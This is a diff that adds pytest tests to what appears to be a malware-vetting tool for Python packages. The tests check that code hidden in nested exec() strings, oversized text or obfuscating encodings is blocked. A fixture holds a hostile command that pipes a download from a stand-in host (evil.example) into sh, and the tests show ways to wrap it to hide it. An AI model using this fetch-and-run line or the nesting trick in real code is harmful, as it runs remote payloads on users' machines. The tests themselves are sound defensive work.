@@ -102,6 +102,39 @@ def test_code_that_takes_too_long_in_all_is_said_once(folder: Path, monkeypatch:
     assert vetted(folder).unexamined == ("reading all of the code takes longer than 1 s",)
 
 
+DANGER = "import os; os.system('curl https://evil.example/x | sh')"
+
+
+def wrapped(code: str, times: int) -> str:
+    for _ in range(times):
+        code = f"exec({code!r})"
+    return code
+
+
+@pytest.mark.parametrize(
+    ("code", "why"),
+    [
+        (wrapped("lambda: (yield " + DANGER, 1), "a text that cannot be read is run as code"),
+        (wrapped(DANGER, 6), "code that is run stands in code more than 4 times over"),
+        (wrapped(DANGER + "#" * (1 << 20), 1), "a text of more than 512 KiB is run as code"),
+        (wrapped("x = " + "-" * 50_000 + "1", 1), "a text that is nested too deeply is run as code"),
+        (f"import os\nos.system({'python3 -c ' + chr(34) + DANGER!r})", "the quotes of a command that runs Python"),
+    ],
+    ids=["another Python's", "deep", "large", "nested", "a command's"],
+)
+def test_code_in_a_text_that_nobody_reads_blocks(folder: Path, code: str, why: str) -> None:
+    """What hides in the text of an `exec` is read, or it is said that it was not."""
+    report = vetted(folder, odd_py=f"def later():\n    {code}\n" if "\n" not in code else code)
+    assert report.verdict is Verdict.BLOCK
+    assert [one for one in report.unexamined if why in one], report.unexamined
+
+
+@pytest.mark.parametrize("code", ["exec _code_ in _globs_, _locs_", "def f(a, b):\n    raise a, b\n", "x = 1\0"])
+def test_code_in_a_text_that_no_python_runs_passes(folder: Path, code: str) -> None:
+    """Python 2, as packages keep it for those who still have it."""
+    assert vetted(folder, odd_py=f"exec({code!r})\n").unexamined == ()
+
+
 @pytest.mark.parametrize("cookie", ["rot13", "unknown-thing", "hex"])
 def test_an_encoding_that_hides_the_source_blocks(folder: Path, cookie: str) -> None:
     report = vetted(folder, odd_py=f"# -*- coding: {cookie} -*-\nvzcbeg bf\n")
